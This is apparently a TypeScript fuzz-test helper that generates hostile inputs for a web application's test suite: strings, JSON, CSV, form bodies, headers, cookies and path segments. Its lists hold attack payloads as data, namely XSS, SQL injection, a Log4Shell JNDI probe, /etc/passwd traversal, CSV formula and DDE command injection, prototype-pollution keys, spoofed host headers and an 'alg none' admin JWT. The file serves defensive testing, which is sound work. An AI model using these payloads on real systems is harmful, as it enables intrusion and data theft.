import fc from 'fast-check';

/**
 * Generators of hostile input for the fuzz suite (test/proof/fuzz.test.ts): strings, JSON texts, form bodies, CSV
 * files, header values, cookies and path segments of the kinds attackers and broken clients send.
 */

/** Strings that have broken parsers, validators, renderers and spreadsheets somewhere. */
export const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  '\uFEFF',
  '\u202E',
  '\u200B',
  '\uFFFD',
  '\uD800',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '-0',
  '0x1F',
  '00000000000000000000000000000000001',
  '١٢٣٤٥٦٧٨٩٠١٢٣٤٥٦',
  '𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖𝟗𝟎𝟏𝟐𝟑𝟒𝟓𝟔',
  'true',
  'null',
  'undefined',
  '[]',
  '{}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR '1'='1",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '%00',
  '%',
  '=HYPERLINK("http://x","y")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\t=1',
  '__proto__',
  'constructor',
  'prototype',
  'x'.repeat(70_000),
  'é'.repeat(5_000),
  '😀'.repeat(3_000),
];

/** Object keys that reach prototypes, or shadow what code calls. */
export const POLLUTING_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'then', 'toJSON'];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 64 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 64 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 1000, maxLength: 20_000 }) },
  { weight: 1, arbitrary: fc.stringMatching(/^[0-9]{1,40}$/) },
);

/** A JSON number as text: ordinary, huge, tiny, negative zero, or not JSON at all (NaN, Infinity, hex). */
const numberText: fc.Arbitrary<string> = fc.oneof(
  fc.integer().map(String),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map((d) => JSON.stringify(d)),
  fc.constantFrom(
    '1e999',
    '-1e999',
    '1e-999',
    '-0',
    '123456789012345678901234567890',
    '0.1e1',
    'NaN',
    'Infinity',
    '0x10',
    '01',
    '.5',
    '+1',
  ),
);

/** A JSON-ish value as text; objects may repeat keys and carry prototype keys. */
export const jsonText: fc.Arbitrary<string> = fc.letrec<{ value: string; object: string; array: string }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constant('null'),
    fc.boolean().map(String),
    numberText,
    hostileString.map((s) => JSON.stringify(s)),
    tie('object'),
    tie('array'),
  ),
  object: fc
    .array(fc.tuple(fc.oneof(fc.constantFrom(...POLLUTING_KEYS), fc.string({ maxLength: 12 })), tie('value')), { maxLength: 6 })
    .map((entries) => `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${v}`).join(',')}}`),
  array: fc.array(tie('value'), { maxLength: 6 }).map((items) => `[${items.join(',')}]`),
})).value;

/** Text that is not JSON, or JSON no parser should take lightly: truncated, nested 10,000 deep, with a BOM. */
export const brokenJsonText: fc.Arbitrary<string> = fc.oneof(
  fc.integer({ min: 50, max: 20_000 }).map((n) => `${'['.repeat(n)}${']'.repeat(n)}`),
  fc.integer({ min: 50, max: 5_000 }).map((n) => `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`),
  jsonText.map((t) => t.slice(0, Math.max(0, t.length - 1))),
  jsonText.map((t) => `\uFEFF${t}`),
  jsonText.map((t) => `${t},`),
  fc.constantFrom('', ' ', '{', '}', '{"a":}', "{'a':1}", '{"a":1,}', '[1,]', 'null', 'true', '"x"', '0', '\u0000', 'undefined'),
  hostileString,
);

/** A hostile value to put where a body names a field. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constant([]),
  fc.constant({}),
  fc.array(hostileString, { maxLength: 3 }),
  fc.dictionary(fc.constantFrom(...POLLUTING_KEYS, 'a', 'nik'), hostileString, { maxKeys: 3 }),
  fc.integer({ min: 1, max: 40 }).map((n) => JSON.parse(`${'['.repeat(n)}${']'.repeat(n)}`) as unknown),
);

/** Sets a dotted path (`member.nik`, `documents.0.type`) in a copy of `body`. */
export const setPath = (body: Record<string, unknown>, path: string, value: unknown): Record<string, unknown> => {
  const copy = structuredClone(body);
  const keys = path.split('.');
  let node: any = copy;
  for (const k of keys.slice(0, -1)) {
    if (typeof node[k] !== 'object' || node[k] === null) node[k] = {};
    node = node[k];
  }
  node[keys.at(-1)!] = value;
  return copy;
};

/** A form field name: ours, nested far too deep, with brackets, prototype keys or junk. */
export const formFieldName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    'member.nik',
    'claimant.nik',
    'documents[0].uploadId',
    'documents[99999999].type',
    '__proto__.polluted',
    'constructor.prototype.polluted',
    'member[__proto__][x]',
    'a.b.c.d.e.f.g.h.i.j.k',
    '[0]',
    '.',
    '[]',
    'decision',
    'reasonCode',
  ),
  fc.integer({ min: 9, max: 5000 }).map((n) => Array.from({ length: n }, () => 'a').join('.')),
  fc.string({ maxLength: 30 }),
);

/** A form body (`application/x-www-form-urlencoded`) of hostile names and values, some of them broken encoding. */
export const formText = (poison: [string, string]): fc.Arbitrary<string> =>
  fc.array(fc.tuple(formFieldName, hostileString), { maxLength: 8 }).chain((pairs) =>
    fc.constantFrom('', '&%', '&a=%ZZ', '&%E0%A4%A=1', '&&&', '&=&=').map((tail) => {
      const params = new URLSearchParams();
      for (const [k, v] of [...pairs, poison]) params.append(k, v.slice(0, 2000));
      return `${params.toString()}${tail}`;
    }),
  );

/** A CSV cell an attacker or a broken export writes. */
const csvCell: fc.Arbitrary<string> = fc.oneof(
  hostileString.map((s) => s.slice(0, 200)),
  fc.constantFrom('=1+1', "=cmd|'/C calc'!A0", '+1', '-1', '@A1', '"', '""', '"a""b"', '"multi\nline"', ';', ',', '\r', ' ', 'ÿ'),
);

const quote = (cell: string) => (/[",\r\n]/.test(cell) && !cell.startsWith('"') ? `"${cell.replaceAll('"', '""')}"` : cell);

/**
 * A CSV file for an import with the given header: the header as is, with a BOM, with semicolons, upper-cased, short a
 * column, or 10,000 columns wide; then lines whose first column (the NIK in both formats' key, or the period) is
 * always invalid, so no line can be imported.
 */
export const csvText = (header: readonly string[], badKeyColumn: number): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.constantFrom('plain', 'bom', 'semicolon', 'upper', 'short', 'wide', 'crlf', 'none'),
      fc.array(fc.array(csvCell, { minLength: 1, maxLength: header.length + 2 }), { maxLength: 12 }),
      fc.constantFrom('x', 'NIK', '', '31730141078500031', '=1+1', '3173 0141 0785 000X', '2026-13'),
    )
    .map(([variant, rows, badKey]) => {
      const sep = variant === 'semicolon' ? ';' : ',';
      const eol = variant === 'crlf' ? '\r\n' : '\n';
      const head =
        variant === 'upper'
          ? header.map((h) => h.toUpperCase())
          : variant === 'short'
            ? header.slice(0, -1)
            : variant === 'wide'
              ? [...header, ...Array.from({ length: 10_000 }, (_, i) => `c${i}`)]
              : header;
      const lines = rows.map((cells) => {
        const line = [...cells];
        line[badKeyColumn] = badKey;
        return line.map(quote).join(sep);
      });
      const text = [...(variant === 'none' ? [] : [head.join(sep)]), ...lines].join(eol);
      return variant === 'bom' ? `\uFEFF${text}` : text;
    });

/** Header values Node will send (latin-1, no CR/LF), chosen to confuse content negotiation and proxies. */
export const headerValue: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '*/*',
    'application/json',
    'application/json; charset=utf-16',
    'application/json, text/html',
    'APPLICATION/JSON',
    'application/x-www-form-urlencoded; charset=iso-8859-1',
    'multipart/form-data; boundary=----x',
    'text/csv',
    'text/plain',
    'application/xml',
    'gzip',
    'id,en;q=0.9,*;q=0.1',
    'zz-ZZ',
    'en-US;q=NaN',
    'evil.example.org',
    'localhost:1',
    '[::1]:99999',
    '127.0.0.1, 10.0.0.1, evil',
    'https',
    'javascript',
    'cross-site',
    'same-site',
    'null',
    'https://evil.example.org',
  ),
  fc.string({ unit: 'binary-ascii', maxLength: 200 }).map((s) => s.replace(/[^\t\x20-\x7e]/g, '')),
  fc.string({ unit: 'grapheme-ascii', minLength: 5000, maxLength: 9000 }),
);

export const HEADER_NAMES = [
  'content-type',
  'accept',
  'accept-language',
  'accept-encoding',
  'idempotency-key',
  'host',
  'x-forwarded-for',
  'x-forwarded-host',
  'x-forwarded-proto',
  'origin',
  'referer',
  'sec-fetch-site',
  'user-agent',
  'authorization',
] as const;

/** A Cookie header: malformed pairs, broken percent-encoding, a session cookie that is empty, tampered or huge. */
export const cookieHeader = (validToken?: string): fc.Arbitrary<string> =>
  fc
    .array(
      fc.oneof(
        fc.constantFrom(
          'santunan_session=',
          'santunan_session=%E0%A4%A',
          'santunan_session=%',
          'santunan_session=eyJhbGciOiJub25lIn0.eyJ1c2VybmFtZSI6ImFkbWluIn0.',
          '=;',
          ';;;',
          '=',
          'a',
          '__proto__=1',
          'constructor=x',
        ),
        headerValue.map((v) => `santunan_session=${v.replace(/[;,\s]/g, '')}`),
        fc.string({ maxLength: 40 }).map((s) => s.replace(/[^\x21-\x7e]/g, '')),
        ...(validToken
          ? [
              fc.constantFrom(
                `santunan_session=${validToken}x`,
                `santunan_session=${validToken.slice(0, -8)}`,
                `santunan_session=${validToken}`,
              ),
            ]
          : []),
      ),
      { minLength: 1, maxLength: 5 },
    )
    .map((parts) => parts.join('; '));

/** Percent-encodes a string, lone surrogates included (as U+FFFD), as a client would. */
export const encode = (s: string) =>
  encodeURIComponent(s.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD'));

/** A path segment where an id goes: broken percent-encoding, traversal, kilobytes long, or odd characters encoded. */
export const pathSegment: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '%',
    '%Z',
    '%ZZ',
    '%E0%A4%A',
    '%C0%AF',
    '%00',
    '..',
    '.',
    '..%2F..%2Fetc%2Fpasswd',
    '%2e%2e',
    '%2F',
    'SNT-2026-AAAAAA%00',
    'SNT-2026-%F0%9F%98%80',
    '%EF%BB%BFSNT-2026-AAAAAA',
  ),
  fc.integer({ min: 100, max: 20_000 }).map((n) => 'A'.repeat(n)),
  hostileString.map((s) => encode(s.slice(0, 3000)).replaceAll('%25', '%')),
  hostileString.map((s) => encode(s.slice(0, 3000))),
);

/** A query string of junk values for the given names. */
export const queryString = (names: readonly string[]): fc.Arbitrary<string> =>
  fc
    .array(fc.tuple(fc.oneof(fc.constantFrom(...names, 'lang', '__proto__', ''), fc.string({ maxLength: 10 })), hostileString), {
      maxLength: 4,
    })
    .chain((pairs) =>
      fc.constantFrom('', '&%', '&a=%ZZ', '&lang=en&lang=id').map((tail) => {
        const q = new URLSearchParams();
        for (const [k, v] of pairs) q.append(k, v.slice(0, 3000));
        const text = `${q.toString()}${tail}`;
        return text ? `?${text}` : '';
      }),
    );
